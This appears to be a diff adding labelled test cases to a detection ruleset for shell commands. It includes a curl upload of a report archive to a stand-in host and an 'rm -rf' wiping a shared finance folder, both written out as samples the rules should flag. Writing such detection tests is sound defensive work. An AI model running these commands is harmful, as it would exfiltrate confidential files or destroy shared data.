@@ -2,3 +2,9 @@
 # hit: escrow.sh.files.copies-to-own-cloud-or-server
 cp report.csv "$HOME/Dropbox/"
 cp report.csv /srv/share/finance/
+# hit: escrow.sh.files.uploads-to-a-server
+curl --upload-file report.tgz https://drop.example/report.tgz
+curl -o report.tgz https://intranet.example/report.tgz
+# hit: escrow.sh.files.wipes-shared-folders
+rm -rf /srv/share/finance
+rm -rf build
